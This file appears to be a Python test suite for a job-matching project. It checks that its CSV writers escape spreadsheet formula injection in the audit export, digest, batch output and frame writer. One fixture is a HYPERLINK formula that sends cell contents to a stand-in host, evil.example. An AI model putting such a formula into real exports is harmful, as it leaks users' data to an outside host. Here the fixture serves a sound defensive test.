"""Every CSV the project writes escapes cells a spreadsheet would run as a formula.

One writer (:mod:`matcher.csvout`) serves the audit export, the nightly digest, the
batch output and the nightly run's files; each is checked here with a
``=HYPERLINK(...)`` value that came from outside.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from api.audit.export import export_events_csv
from api.audit.write import append_event
from matcher.cli import main
from matcher.csvout import escape_cell, frame_to_csv, rows_to_csv
from matcher.rematch.digest import build_digests, digest_to_csv
from matcher.rematch.shortlist_diff import Entry, diff_shortlists
from tests.api.conftest import Api
from tests.matcher import worlds
from tests.matcher.worlds import client_record, opening_record

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_escaped_and_plain_cells_are_not(start: str) -> None:
    assert escape_cell(start + "1+1") == "'" + start + "1+1"
    assert escape_cell("Dishwasher") == "Dishwasher"
    assert escape_cell(-3.5) == -3.5 and escape_cell(7) == 7  # numbers stay numbers
    text = rows_to_csv(["a", "b"], [[start + "cmd", -2]])
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + start + "cmd", "-2"]


def test_frame_writer_escapes_text_columns_only(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    frame_to_csv(pd.DataFrame({"title": [LINK, "Baker"], "score": [-1.5, 2.0]}), path)
    back = pd.read_csv(path)
    assert list(back["title"]) == ["'" + LINK, "Baker"] and list(back["score"]) == [-1.5, 2.0]


def test_the_digest_csv_escapes_a_hostile_title_employer_and_client_label() -> None:
    openings = {"O-a": worlds.opening(id="O-a", title=LINK, employer="@SUM(A1:A9)")}
    diff = diff_shortlists(
        [],
        [Entry("O-a", 1, 80.0)],
        openings_now=openings,
        as_of=worlds.AS_OF,
        client_changed=False,
        client_id="C-1",
    )
    (digest,) = build_digests(
        {"S-1": ["C-1"]},
        {"C-1": diff},
        run_id="r",
        as_of="2026-03-02",
        openings=openings,
        sizes={"C-1": 1},
        labels={"C-1": "+" + LINK},
    )
    rows = list(csv.DictReader(io.StringIO(digest_to_csv(digest))))
    assert [(r["title"], r["employer"], r["client"]) for r in rows] == [
        ("'" + LINK, "'@SUM(A1:A9)", "'+" + LINK)
    ]


def test_the_batch_csv_escapes_hostile_ids(tmp_path: Path) -> None:
    clients, openings = tmp_path / "clients.json", tmp_path / "openings.json"
    clients.write_text(json.dumps([client_record(id=LINK)]))
    openings.write_text(json.dumps([opening_record(id="+O-1")]))
    out = tmp_path / "out.csv"
    args = [
        "batch",
        "--clients-file",
        str(clients),
        "--openings-file",
        str(openings),
        "--as-of",
        "2026-03-02",
    ]
    assert main([*args, "--out", str(out)]) == 0
    frame = pd.read_csv(out)
    assert frame[["client_id", "opening_id"]].values.tolist() == [["'" + LINK, "'+O-1"]]
    assert frame["score"].dtype.kind == "f"  # numbers are still numbers


def test_the_audit_export_escapes_a_hostile_actor(api: Api) -> None:
    with api.session() as session:
        append_event(session, kind="login", actor=LINK, payload={"title": LINK})
        session.commit()
        text = export_events_csv(session, kind="login")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[-1]["actor"] == "'" + LINK
    assert json.loads(rows[-1]["payload"]) == {"title": LINK}  # JSON starts with "{": not a formula
